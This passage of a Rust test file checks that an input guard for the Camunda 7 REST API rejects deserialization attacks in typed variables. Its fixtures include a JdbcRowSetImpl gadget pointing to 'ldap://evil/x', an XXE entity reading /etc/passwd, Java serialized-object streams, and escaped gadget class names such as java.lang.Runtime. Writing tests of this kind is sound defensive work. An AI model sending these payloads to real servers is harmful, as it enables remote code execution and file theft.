//! Integration tests of the JSON inspector (issue 4): typed variables in
//! every body location Camunda 7 reads them from (camunda7.md table 2.2),
//! in every member order, with escaped keys and values, every type-id key,
//! Jackson wrapper arrays, JSON and XML carried in strings, strict RFC 8259
//! parsing with a near miss for each rule, encodings, limits at and one past
//! the limit, and the whole request through the [`Guard`].
//!
//! Most tests are tables of [`Case`]s: a name, a body, and the expected
//! outcome, either [`OK`] or `"<code> at <JSON Pointer>"`. A table reports
//! every case that disagrees, not just the first.

use input_guard::policy::Policy;
use input_guard::{Guard, Verdict, Violation};

// ---------------------------------------------------------------- helpers

/// The expected outcome of a body that passes.
const OK: &str = "ok";
const MALFORMED: &str = "json-malformed";
const DUPLICATE: &str = "json-duplicate-key";
const TOO_DEEP: &str = "json-too-deep";
const TOO_LARGE: &str = "json-value-too-large";
const TOO_MANY: &str = "json-too-many-members";
const UNSUPPORTED: &str = "json-unsupported-encoding";
const MISMATCH: &str = "json-encoding-mismatch";
const CLASS: &str = "class-not-allowed";
const JAVA: &str = "java-serialization-not-allowed";
const INVALID: &str = "typed-variable-invalid";
const DOCTYPE: &str = "xml-doctype";
const XML_MALFORMED: &str = "xml-malformed";
const XINCLUDE: &str = "xml-xinclude";

/// The test policy's allow list. `java.lang.*` is allowed on purpose, so that
/// `java.lang.Runtime` is refused by the built-in gadget list alone; nothing
/// under `com.evil` is allowed.
const ALLOW: &str = r#"allow = [
    "java.util.*",
    "java.lang.*",
    "com.acme.**",
    "Acme.**",
    "System.Collections.Generic.*",
    "System.String",
]"#;

const JAVA_STREAM: &str = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==";

/// A guard for the test policy plus `classes` lines in `[classes]` and
/// `json` lines in `[json]`.
fn guard_with(classes: &str, json: &str) -> Guard {
    let toml = format!("[classes]\n{ALLOW}\n{classes}\n[json]\n{json}\n");
    let policy = Policy::from_toml(&toml).unwrap_or_else(|e| panic!("test policy: {e}\n{toml}"));
    Guard::new(policy).expect("a valid policy")
}

fn test_guard() -> Guard {
    guard_with("", "")
}

/// The bundled Camunda policy.
fn camunda_guard() -> Guard {
    let policy = Policy::load(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/policies/camunda.toml"
    ))
    .unwrap_or_else(|e| panic!("policies/camunda.toml: {e}"));
    Guard::new(policy).expect("a valid policy")
}

/// The expected outcome of a rejection.
fn err(code: &str, location: &str) -> String {
    format!("{code} at {location}")
}

/// `"ok"` or `"<code> at <location>"`.
fn outcome(result: &Result<(), Violation>) -> String {
    match result {
        Ok(()) => OK.to_owned(),
        Err(v) => err(v.code().as_str(), v.location()),
    }
}

fn shorten(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(&bytes[..bytes.len().min(240)]);
    format!("{text:?}{}", if bytes.len() > 240 { "..." } else { "" })
}

/// A JSON string literal holding `text` (for documents carried in strings).
fn js(text: &str) -> String {
    serde_json::to_string(text).expect("a string serializes")
}

/// Replaces every `(placeholder, value)` in `template`.
fn fill(template: &str, pairs: &[(&str, &str)]) -> String {
    pairs
        .iter()
        .fold(template.to_owned(), |acc, (from, to)| acc.replace(from, to))
}

struct Case {
    name: String,
    body: Vec<u8>,
    charset: Option<&'static str>,
    expected: String,
}

fn case(name: impl Into<String>, body: impl AsRef<[u8]>, expected: impl Into<String>) -> Case {
    Case {
        name: name.into(),
        body: body.as_ref().to_vec(),
        charset: None,
        expected: expected.into(),
    }
}

impl Case {
    fn charset(mut self, charset: &'static str) -> Self {
        self.charset = Some(charset);
        self
    }
}

/// Inspects every case with `guard`'s JSON inspector and fails listing every
/// case whose outcome differs from the expected one.
#[track_caller]
fn check(guard: &Guard, cases: &[Case]) {
    let inspector = guard.json();
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|c| {
            let result = inspector.inspect(&c.body, c.charset);
            let got = outcome(&result);
            (got != c.expected).then(|| {
                let detail = match &result {
                    Ok(()) => String::new(),
                    Err(v) => format!(" ({v})"),
                };
                format!(
                    "  {}: expected {}, got {got}{detail}\n    input {} charset {:?}",
                    c.name,
                    c.expected,
                    shorten(&c.body),
                    c.charset,
                )
            })
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Inspects `body` and returns the violation, failing unless it is `code`
/// at `location`.
#[track_caller]
fn rejected(guard: &Guard, body: &str, code: &str, location: &str) -> Violation {
    match guard.json().inspect(body.as_bytes(), None) {
        Ok(()) => panic!("expected {code} at {location}, but it passed: {body}"),
        Err(v) => {
            assert_eq!(
                err(v.code().as_str(), v.location()),
                err(code, location),
                "{v}\n  input {body}"
            );
            v
        }
    }
}

/// A typed variable with all three members, in this order.
fn typed(value: &str, type_name: &str, class: &str, format: &str) -> String {
    format!(
        r#"{{"value":{value},"type":"{type_name}","valueInfo":{{"objectTypeName":"{class}","serializationDataFormat":"{format}"}}}}"#
    )
}

/// A serialized `Object` variable in JSON format naming `class`.
fn object_var(class: &str) -> String {
    typed(r#""{}""#, "Object", class, "application/json")
}

/// The same as a `TriggerVariableValueDto` (modification instructions,
/// CMMN triggers): one more member, `local`.
fn trigger(var: &str) -> String {
    format!("{{\"local\":true,{}", &var[1..])
}

/// `{"variables":{"x": var}}`; its variable sits at `/variables/x`.
fn in_variables(var: &str) -> String {
    format!(r#"{{"variables":{{"x":{var}}}}}"#)
}

fn utf16(text: &str, little_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if little_endian {
            &[0xFF, 0xFE]
        } else {
            &[0xFE, 0xFF]
        });
    }
    for unit in text.encode_utf16() {
        out.extend_from_slice(&if little_endian {
            unit.to_le_bytes()
        } else {
            unit.to_be_bytes()
        });
    }
    out
}

fn utf32(text: &str, little_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if little_endian {
            &[0xFF, 0xFE, 0x00, 0x00]
        } else {
            &[0x00, 0x00, 0xFE, 0xFF]
        });
    }
    for c in text.chars() {
        let c = u32::from(c);
        out.extend_from_slice(&if little_endian {
            c.to_le_bytes()
        } else {
            c.to_be_bytes()
        });
    }
    out
}

/// `depth` carriers nested in each other: a `Json` variable whose value is
/// the next one, around `{"a":1}`.
fn nested_carriers(depth: usize, carrier: fn(&str) -> String) -> String {
    (0..depth).fold(r#"{"a":1}"#.to_owned(), |inner, _| carrier(&js(&inner)))
}

fn json_carrier(value: &str) -> String {
    format!(r#"{{"value":{value},"type":"Json"}}"#)
}

fn object_carrier(value: &str) -> String {
    typed(value, "Object", "java.util.HashMap", "application/json")
}

/// A `POST` head with this content type.
fn post(content_type: &str) -> http::request::Parts {
    let (head, ()) = http::Request::post("/engine-rest/process-definition/key/invoice/start")
        .header("content-type", content_type)
        .body(())
        .expect("a valid request")
        .into_parts();
    head
}

fn verdict_outcome(verdict: &Verdict) -> String {
    match verdict {
        Verdict::Allow => OK.to_owned(),
        Verdict::Reject(v) => format!("reject {}", err(v.code().as_str(), v.location())),
        Verdict::Report(v) => format!("report {}", err(v.code().as_str(), v.location())),
        Verdict::Rewrite(uri) => format!("rewrite {uri}"),
    }
}

// ------------------------------------------- typed variables, every location

/// camunda7.md table 2.2: every JSON body that carries typed variables, as
/// (endpoint, template, pointer of the variable). `@V` is a
/// `VariableValueDto`, `@T` a `TriggerVariableValueDto`.
const LOCATIONS: &[(&str, &str, &str)] = &[
    (
        "POST /process-definition/key/{key}/start: variables",
        r#"{"businessKey":"b-1","variables":{"order":@V},"withVariablesInReturn":true}"#,
        "/variables/order",
    ),
    (
        "POST /process-definition/key/{key}/start: startInstructions[].variables",
        r#"{"variables":{"amount":{"value":5,"type":"Integer"}},"startInstructions":[{"type":"startBeforeActivity","activityId":"approve","variables":{"order":@T}}],"skipCustomListeners":true}"#,
        "/startInstructions/0/variables/order",
    ),
    (
        "POST /process-definition/{id}/submit-form: variables",
        r#"{"variables":{"approved":{"value":true,"type":"Boolean"},"order":@V},"businessKey":"b"}"#,
        "/variables/order",
    ),
    (
        "POST /process-instance/{id}/variables: modifications",
        r#"{"modifications":{"note":{"value":"x","type":"String"},"order":@V},"deletions":["old"]}"#,
        "/modifications/order",
    ),
    (
        "PUT /process-instance/{id}/variables/{name}: whole body",
        "@V",
        "",
    ),
    (
        "PUT /task/{id}/localVariables/{name}: whole body with blanks",
        " \n@V\n ",
        "",
    ),
    (
        "POST /process-instance/variables-async: variables",
        r#"{"processInstanceIds":["p1"],"processInstanceQuery":{"processDefinitionKey":"p"},"variables":{"order":@V}}"#,
        "/variables/order",
    ),
    (
        "POST /process-instance/message-async: variables",
        r#"{"messageName":"m","processInstanceIds":["p1"],"variables":{"order":@V}}"#,
        "/variables/order",
    ),
    (
        "POST /process-instance/{id}/modification: instructions[].variables",
        r#"{"skipCustomListeners":false,"skipIoMappings":true,"instructions":[{"type":"cancel","activityInstanceId":"a:1"},{"type":"startBeforeActivity","activityId":"approve","variables":{"order":@T}}],"annotation":"fix"}"#,
        "/instructions/1/variables/order",
    ),
    (
        "POST /message: correlationKeys",
        r#"{"messageName":"m","correlationKeys":{"order":@V},"localCorrelationKeys":{"k":{"value":"v","type":"String"}},"processVariables":{},"all":true}"#,
        "/correlationKeys/order",
    ),
    (
        "POST /message: localCorrelationKeys",
        r#"{"messageName":"m","correlationKeys":{"k":{"value":"v","type":"String"}},"localCorrelationKeys":{"order":@V}}"#,
        "/localCorrelationKeys/order",
    ),
    (
        "POST /message: processVariables",
        r#"{"messageName":"m","businessKey":"b","processVariables":{"order":@V},"resultEnabled":true}"#,
        "/processVariables/order",
    ),
    (
        "POST /message: processVariablesLocal",
        r#"{"messageName":"m","processVariables":{"k":{"value":1,"type":"Long"}},"processVariablesLocal":{"order":@V}}"#,
        "/processVariablesLocal/order",
    ),
    (
        "POST /message: processVariablesToTriggeredScope",
        r#"{"messageName":"m","processVariablesToTriggeredScope":{"order":@V},"variablesInResultEnabled":true}"#,
        "/processVariablesToTriggeredScope/order",
    ),
    (
        "POST /signal: variables",
        r#"{"name":"s","executionId":null,"variables":{"order":@V},"tenantId":"t"}"#,
        "/variables/order",
    ),
    (
        "POST /condition: variables",
        r#"{"variables":{"order":@V},"businessKey":"b"}"#,
        "/variables/order",
    ),
    (
        "POST /task/{id}/complete: variables",
        r#"{"variables":{"order":@V},"withVariablesInReturn":true}"#,
        "/variables/order",
    ),
    (
        "POST /task/{id}/bpmnError: variables",
        r#"{"errorCode":"e","errorMessage":"m","variables":{"order":@V}}"#,
        "/variables/order",
    ),
    (
        "POST /external-task/{id}/complete: localVariables",
        r#"{"workerId":"w","variables":{"a":{"value":1,"type":"Integer"}},"localVariables":{"order":@V}}"#,
        "/localVariables/order",
    ),
    (
        "POST /external-task/{id}/failure: localVariables",
        r#"{"workerId":"w","errorMessage":"e","retries":1,"retryTimeout":1000,"variables":{},"localVariables":{"order":@V}}"#,
        "/localVariables/order",
    ),
    (
        "POST /decision-definition/key/{key}/evaluate: variables",
        r#"{"variables":{"order":@V}}"#,
        "/variables/order",
    ),
    (
        "POST /migration/validate: variables",
        r#"{"sourceProcessDefinitionId":"a:1","targetProcessDefinitionId":"a:2","instructions":[],"variables":{"order":@V}}"#,
        "/variables/order",
    ),
    (
        "POST /migration/execute: migrationPlan.variables",
        r#"{"migrationPlan":{"sourceProcessDefinitionId":"a:1","targetProcessDefinitionId":"a:2","instructions":[{"sourceActivityIds":["t"],"targetActivityIds":["t"],"updateEventTrigger":false}],"variables":{"order":@V}},"processInstanceIds":["p1"],"skipCustomListeners":true}"#,
        "/migrationPlan/variables/order",
    ),
    (
        "POST /case-definition/key/{key}/create (CMMN): variables",
        r#"{"businessKey":"b","variables":{"order":@V}}"#,
        "/variables/order",
    ),
    (
        "POST /case-execution/{id}/complete (CMMN trigger): variables",
        r#"{"variables":{"order":@T},"deletions":["x"]}"#,
        "/variables/order",
    ),
];

/// Typed variables in every location, for one guard; the classes named
/// must be allowed by both the test policy and the Camunda policy.
fn location_cases() -> Vec<Case> {
    let allowed = [
        "java.util.HashMap<java.lang.String,java.lang.Integer>",
        "java.util.ArrayList",
        "java.lang.String",
    ];
    let denied = [
        "com.evil.X",
        "com.sun.rowset.JdbcRowSetImpl",
        "java.util.ArrayList<com.evil.X>",
        "[Lcom.evil.X;",
    ];
    let gadget = js(
        r#"{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x","autoCommit":true}"#,
    );
    let mut cases = Vec::new();
    for (endpoint, template, at) in LOCATIONS {
        let mut add = |what: String, var: String, expected: String| {
            let body = fill(template, &[("@V", &var), ("@T", &trigger(&var))]);
            cases.push(case(format!("{endpoint}: {what}"), body, expected));
        };
        for class in allowed {
            add(format!("allowed {class}"), object_var(class), OK.to_owned());
        }
        for class in denied {
            add(
                format!("denied {class}"),
                object_var(class),
                err(CLASS, &format!("{at}/valueInfo/objectTypeName")),
            );
        }
        add(
            "gadget @class in the carried JSON".to_owned(),
            typed(&gadget, "Object", "java.util.HashMap", "application/json"),
            err(CLASS, &format!("{at}/value/@class")),
        );
        add(
            "Java serialization".to_owned(),
            typed(
                &js(JAVA_STREAM),
                "Object",
                "java.util.HashMap",
                "application/x-java-serialized-object",
            ),
            err(JAVA, &format!("{at}/valueInfo/serializationDataFormat")),
        );
        add(
            "Object without objectTypeName".to_owned(),
            r#"{"value":"{}","type":"Object","valueInfo":{"serializationDataFormat":"application/json"}}"#
                .to_owned(),
            err(INVALID, &format!("{at}/valueInfo")),
        );
        add(
            "plain String variable".to_owned(),
            r#"{"value":"com.evil.X","type":"String"}"#.to_owned(),
            OK.to_owned(),
        );
    }
    cases
}

#[test]
fn typed_variables_in_every_body_location_test_policy() {
    check(&test_guard(), &location_cases());
}

#[test]
fn typed_variables_in_every_body_location_camunda_policy() {
    let guard = camunda_guard();
    check(&guard, &location_cases());
    // Classes the Camunda policy does not list, although the test policy does.
    let mut cases = Vec::new();
    for (endpoint, template, at) in LOCATIONS {
        for class in [
            "java.util.List<java.lang.String>",
            "com.acme.Order",
            "java.lang.Runtime",
        ] {
            let var = object_var(class);
            cases.push(case(
                format!("{endpoint}: not in the Camunda allow list: {class}"),
                fill(template, &[("@V", &var), ("@T", &trigger(&var))]),
                err(CLASS, &format!("{at}/valueInfo/objectTypeName")),
            ));
        }
    }
    check(&guard, &cases);
}

#[test]
fn the_message_names_the_denied_inner_class() {
    let guard = test_guard();
    for (class, denied) in [
        (
            "java.util.HashMap<java.lang.String, java.util.List<com.evil.X>>",
            "com.evil.X",
        ),
        (
            "java.util.HashMap<com.evil.Key,java.lang.String>",
            "com.evil.Key",
        ),
        (
            "java.util.List<java.util.List<java.util.List<[Lcom.evil.Deep;>>>",
            "com.evil.Deep",
        ),
        (
            "java.util.Optional<java.lang.ProcessBuilder>",
            "java.lang.ProcessBuilder",
        ),
    ] {
        let v = rejected(
            &guard,
            &in_variables(&object_var(class)),
            CLASS,
            "/variables/x/valueInfo/objectTypeName",
        );
        assert!(
            v.message().contains(&format!("`{denied}`")),
            "{class}: the message should name {denied}: {v}"
        );
    }
}

// ------------------------------------------------------------ member order

/// The six orders of three members.
const ORDERS: [[usize; 3]; 6] = [
    [0, 1, 2],
    [0, 2, 1],
    [1, 0, 2],
    [1, 2, 0],
    [2, 0, 1],
    [2, 1, 0],
];

/// A member-order scenario: name, `value`, `objectTypeName`,
/// `serializationDataFormat`, and the expected code and pointer tail.
type Scenario<'a> = (
    &'a str,
    &'a str,
    Option<&'a str>,
    Option<&'a str>,
    Option<(&'a str, &'a str)>,
);

#[test]
fn members_in_every_order() {
    let evil_carried = js(r#"{"@class":"com.evil.X"}"#);
    let truncated = js(r#"{"a":"#);
    let scenarios: [Scenario<'_>; 9] = [
        (
            "allowed",
            r#""{\"a\":1}""#,
            Some("com.acme.Order"),
            Some("application/json"),
            None,
        ),
        (
            "denied",
            r#""{}""#,
            Some("com.evil.X"),
            Some("application/json"),
            Some((CLASS, "/valueInfo/objectTypeName")),
        ),
        (
            "carried @class",
            &evil_carried,
            Some("com.acme.Order"),
            Some("application/json"),
            Some((CLASS, "/value/@class")),
        ),
        (
            "carried JSON malformed",
            &truncated,
            Some("com.acme.Order"),
            Some("application/json"),
            Some((MALFORMED, "/value/a")),
        ),
        (
            "Java serialization",
            r#""rO0ABQ==""#,
            Some("com.acme.Order"),
            Some("application/x-java-serialized-object"),
            Some((JAVA, "/valueInfo/serializationDataFormat")),
        ),
        (
            "no serializationDataFormat",
            r#""{}""#,
            Some("com.acme.Order"),
            None,
            Some((INVALID, "/valueInfo")),
        ),
        (
            "no objectTypeName",
            r#""{}""#,
            None,
            Some("application/json"),
            Some((INVALID, "/valueInfo")),
        ),
        (
            "number value",
            "42",
            Some("com.acme.Order"),
            Some("application/json"),
            Some((INVALID, "/value")),
        ),
        ("null value, empty valueInfo", "null", None, None, None),
    ];
    let mut cases = Vec::new();
    for (scenario, value, class, format, expected) in scenarios {
        let info: Vec<String> = [
            class.map(|c| format!(r#""objectTypeName":"{c}""#)),
            format.map(|f| format!(r#""serializationDataFormat":"{f}""#)),
        ]
        .into_iter()
        .flatten()
        .collect();
        let mut reversed = info.clone();
        reversed.reverse();
        for info in [info, reversed] {
            let members = [
                format!(r#""value":{value}"#),
                r#""type":"Object""#.to_owned(),
                format!(r#""valueInfo":{{{}}}"#, info.join(",")),
            ];
            for order in ORDERS {
                let names: Vec<&str> = order
                    .iter()
                    .map(|&i| ["value", "type", "valueInfo"][i])
                    .collect();
                let var = format!("{{{}}}", order.map(|i| members[i].as_str()).join(","));
                let expected = match expected {
                    None => OK.to_owned(),
                    Some((code, tail)) => err(code, &format!("/variables/x{tail}")),
                };
                cases.push(case(
                    format!("{scenario}: {} / {}", names.join(", "), info.join(", ")),
                    in_variables(&var),
                    expected,
                ));
            }
        }
    }
    check(&test_guard(), &cases);
}

// ------------------------------------------------------- escapes and case

#[test]
fn escaped_keys_and_values() {
    let v = |var: &str| in_variables(var);
    let cases = [
        case(
            "escaped objectTypeName key, denied class",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectType\u004eame":"com.evil.X","serializationDataFormat":"application/json"}}"#,
            ),
            err(CLASS, "/variables/x/valueInfo/objectTypeName"),
        ),
        case(
            "escaped objectTypeName key, allowed class",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectType\u004eame":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            OK,
        ),
        case(
            "fully escaped objectTypeName key outside any valueInfo",
            r#"{"a":{"\u006f\u0062\u006a\u0065\u0063\u0074\u0054\u0079\u0070\u0065\u004e\u0061\u006d\u0065":"com.evil.X"}}"#,
            err(CLASS, "/a/objectTypeName"),
        ),
        case(
            "escaped valueInfo key: its objectTypeName counts (near miss of the missing-name rule)",
            v(
                r#"{"value":"{}","type":"Object","valueInf\u006f":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            OK,
        ),
        case(
            "escaped valueInfo key: Java serialization",
            v(
                r#"{"value":"rO0ABQ==","type":"Object","valueInf\u006f":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/x-java-serialized-object"}}"#,
            ),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "escaped valueInfo key: carried JSON inspected",
            v(
                r#"{"value":"{\"@class\":\"com.evil.X\"}","type":"Object","valueInf\u006f":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            err(CLASS, "/variables/x/value/@class"),
        ),
        case(
            "escaped type key: Object with a number value",
            v(
                r#"{"value":5,"typ\u0065":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            err(INVALID, "/variables/x/value"),
        ),
        case(
            "escaped type key: Json with invalid JSON",
            v(r#"{"typ\u0065":"Json","value":"{"}"#),
            err(MALFORMED, "/variables/x/value"),
        ),
        case(
            "escaped type key: Object without valueInfo",
            v(r#"{"\u0074ype":"Object","value":"{}"}"#),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "escaped value key: number value of an Object",
            v(
                r#"{"valu\u0065":5,"type":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            err(INVALID, "/variables/x/value"),
        ),
        case(
            "escaped serializationDataFormat key: Java serialization",
            v(
                r#"{"value":"rO0ABQ==","type":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataF\u006frmat":"application/x-java-serialized-object"}}"#,
            ),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "escaped class name: java.lang.\\u0052untime (gadget list)",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectTypeName":"java.lang.\u0052untime","serializationDataFormat":"application/json"}}"#,
            ),
            err(CLASS, "/variables/x/valueInfo/objectTypeName"),
        ),
        case(
            "escaped class name: com.evil.\\u0058",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectTypeName":"com.evil.\u0058","serializationDataFormat":"application/json"}}"#,
            ),
            err(CLASS, "/variables/x/valueInfo/objectTypeName"),
        ),
        case(
            "escaped class name, allowed: java.lang.\\u0053tring",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectTypeName":"java.lang.\u0053tring","serializationDataFormat":"application/json"}}"#,
            ),
            OK,
        ),
        case(
            "escaped class name, allowed generics: \\u003c and \\u003e",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectTypeName":"java.util.List\u003ccom.acme.Order\u003e","serializationDataFormat":"application/json"}}"#,
            ),
            OK,
        ),
        case(
            "escaped class name, denied generic argument behind \\u003c",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectTypeName":"java.util.List\u003ccom.evil.X\u003e","serializationDataFormat":"application/json"}}"#,
            ),
            err(CLASS, "/variables/x/valueInfo/objectTypeName"),
        ),
        case(
            "escaped type value: Obj\\u0065ct without valueInfo",
            v(r#"{"value":"{}","type":"Obj\u0065ct"}"#),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "escaped format: application\\/x-java-serialized-object",
            v(
                r#"{"value":"rO0ABQ==","type":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application\/x-java-serialized-\u006fbject"}}"#,
            ),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ),
        case(
            "escaped format: application/js\\u006fn carries JSON",
            v(
                r#"{"value":"{\"@class\":\"com.evil.X\"}","type":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/js\u006fn"}}"#,
            ),
            err(CLASS, "/variables/x/value/@class"),
        ),
        case(
            "doubly escaped type-id key in carried JSON: @cl\\u0061ss",
            v(
                r#"{"value":"{\"@cl\\u0061ss\":\"com.evil.X\"}","type":"Object","valueInfo":{"objectTypeName":"com.acme.Order","serializationDataFormat":"application/json"}}"#,
            ),
            err(CLASS, "/variables/x/value/@class"),
        ),
        case(
            "escaped type-id key: \\u0040class",
            r#"{"a":{"\u0040class":"com.evil.X"}}"#,
            err(CLASS, "/a/@class"),
        ),
        case(
            "escaped type-id key, allowed class",
            r#"{"a":{"\u0040class":"com.acme.Order"}}"#,
            OK,
        ),
    ];
    check(&test_guard(), &cases);
}

#[test]
fn type_names_compare_case_insensitively() {
    let v = |var: &str| in_variables(var);
    let evil = js(r#"{"@class":"com.evil.X"}"#);
    let doctype = js(r#"<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>"#);
    let mut cases = Vec::new();
    for t in ["Object", "object", "OBJECT", "oBjEcT"] {
        cases.push(case(
            format!("{t}: no valueInfo"),
            v(&format!(r#"{{"value":"{{}}","type":"{t}"}}"#)),
            err(INVALID, "/variables/x/valueInfo"),
        ));
        cases.push(case(
            format!("{t}: number value"),
            v(&format!(r#"{{"value":1,"type":"{t}"}}"#)),
            err(INVALID, "/variables/x/value"),
        ));
        cases.push(case(
            format!("{t}: carried JSON inspected"),
            v(&typed(&evil, t, "com.acme.Order", "application/json")),
            err(CLASS, "/variables/x/value/@class"),
        ));
        cases.push(case(
            format!("{t}: Java serialization"),
            v(&typed(
                r#""rO0ABQ==""#,
                t,
                "com.acme.Order",
                "APPLICATION/X-JAVA-SERIALIZED-OBJECT",
            )),
            err(JAVA, "/variables/x/valueInfo/serializationDataFormat"),
        ));
        cases.push(case(
            format!("{t}: null value needs nothing"),
            v(&format!(r#"{{"value":null,"type":"{t}"}}"#)),
            OK,
        ));
        cases.push(case(
            format!("{t}: complete"),
            v(&typed(r#""{}""#, t, "com.acme.Order", "Application/Json")),
            OK,
        ));
    }
    for t in ["Json", "json", "JSON", "jSoN"] {
        cases.push(case(
            format!("{t}: invalid JSON"),
            v(&format!(r#"{{"value":"{{\"a\":","type":"{t}"}}"#)),
            err(MALFORMED, "/variables/x/value/a"),
        ));
        cases.push(case(
            format!("{t}: carried type id"),
            v(&format!(r#"{{"value":{evil},"type":"{t}"}}"#)),
            err(CLASS, "/variables/x/value/@class"),
        ));
        cases.push(case(
            format!("{t}: valid JSON"),
            v(&format!(r#"{{"value":"[1,{{\"a\":null}}]","type":"{t}"}}"#)),
            OK,
        ));
    }
    for t in ["Xml", "xml", "XML"] {
        cases.push(case(
            format!("{t}: DOCTYPE"),
            v(&format!(r#"{{"value":{doctype},"type":"{t}"}}"#)),
            err(DOCTYPE, "/variables/x/value"),
        ));
        cases.push(case(
            format!("{t}: benign"),
            v(&format!(r#"{{"value":"<r a=\"1\">t</r>","type":"{t}"}}"#)),
            OK,
        ));
    }
    // Near misses: other type names are not serialized types.
    for t in [
        "Objects",
        "ObjectValue",
        "Obj",
        "String",
        "Integer",
        "Bytes",
        "File",
        "Null",
    ] {
        cases.push(case(
            format!("{t}: number value passes"),
            v(&format!(r#"{{"value":1,"type":"{t}"}}"#)),
            OK,
        ));
        cases.push(case(
            format!("{t}: not-JSON string passes"),
            v(&format!(
                r#"{{"value":"{{not json <!DOCTYPE","type":"{t}"}}"#
            )),
            OK,
        ));
    }
    check(&test_guard(), &cases);
}

// ----------------------------------------------------------- type names

#[test]
fn object_type_names() {
    let name = |class: &str| in_variables(&object_var(class));
    let at = "/variables/x/valueInfo/objectTypeName";
    let mut cases = Vec::new();
    for class in [
        "com.acme.Order",
        "com.acme.Outer$Inner",
        "java.util.HashMap<java.lang.String, java.util.List<com.acme.Order>>",
        "java.util.HashMap<java.lang.String,java.util.List<com.acme.Order>>",
        "java.util.Map<java.lang.String,[Lcom.acme.Order;>",
        "[Lcom.acme.Order;",
        "[[Lcom.acme.Order;",
        "com.acme.Order[]",
        "com.acme.Order[][]",
        "java.util.List<com.acme.Order[]>",
        "[I",
        "int[]",
        "int",
    ] {
        cases.push(case(format!("allowed: {class}"), name(class), OK));
    }
    for class in [
        "com.evil.X",
        "com.evil.X$Inner",
        "java.util.HashMap<java.lang.String, java.util.List<com.evil.X>>",
        "java.util.HashMap<com.evil.X,java.lang.String>",
        "java.util.List<java.util.List<java.util.List<com.evil.X>>>",
        "[Lcom.evil.X;",
        "[[[Lcom.evil.X;",
        "com.evil.X[]",
        "java.util.List<com.evil.X[]>",
        "java.util.List<[Lcom.evil.X;>",
        "java.lang.Runtime",
        "java.lang.ProcessBuilder$Redirect",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "com.acmex.Order",
    ] {
        cases.push(case(
            format!("denied: {class}"),
            name(class),
            err(CLASS, at),
        ));
    }
    // Malformed type names are refused as class-not-allowed.
    for class in [
        "",
        " ",
        "com.acme.",
        ".com.acme.Order",
        "com..acme.Order",
        "java.util.List<",
        "java.util.List<com.acme.Order",
        "com.acme.Order>",
        "java.util.List<>",
        "java.util.List<?>",
        "java.util.List<int>",
        "java/lang/String",
        "java.base/java.lang.String",
        "Lcom.acme.Order;",
        "[Lcom.acme.Order",
        "[com.acme.Order",
        "[V",
        "void",
        "com.acme.1Order",
        "com.acme.Ord-er",
        "com.acme.Order;",
        "com.acme.Order ,x",
        "com.acme.Ord\\u0435r",
        "com.acme.Order\\u200b",
        "com.acme.Order\\t\\n",
    ] {
        cases.push(case(
            format!("malformed: {class:?}"),
            name(class),
            err(CLASS, at),
        ));
    }
    check(&test_guard(), &cases);
}

// ------------------------------------------------- Object variable rules

#[test]
fn object_variable_rules() {
    let v = |var: &str| in_variables(var);
    let mut cases = vec![
        // Missing valueInfo members on a non-null value.
        case(
            "no objectTypeName",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"serializationDataFormat":"application/json"}}"#,
            ),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "no serializationDataFormat",
            v(r#"{"value":"{}","type":"Object","valueInfo":{"objectTypeName":"com.acme.Order"}}"#),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "empty valueInfo",
            v(r#"{"value":"{}","type":"Object","valueInfo":{}}"#),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "no valueInfo",
            v(r#"{"value":"{}","type":"Object"}"#),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "valueInfo is not an object",
            v(r#"{"value":"{}","type":"Object","valueInfo":"com.acme.Order"}"#),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "empty string is not null",
            v(
                r#"{"value":"","type":"Object","valueInfo":{"serializationDataFormat":"application/json"}}"#,
            ),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "objectTypeName null on a non-null value",
            v(
                r#"{"value":"{}","type":"Object","valueInfo":{"objectTypeName":null,"serializationDataFormat":"application/json"}}"#,
            ),
            err(INVALID, "/variables/x/valueInfo"),
        ),
        case(
            "objectTypeName outside valueInfo does not count",
            v(
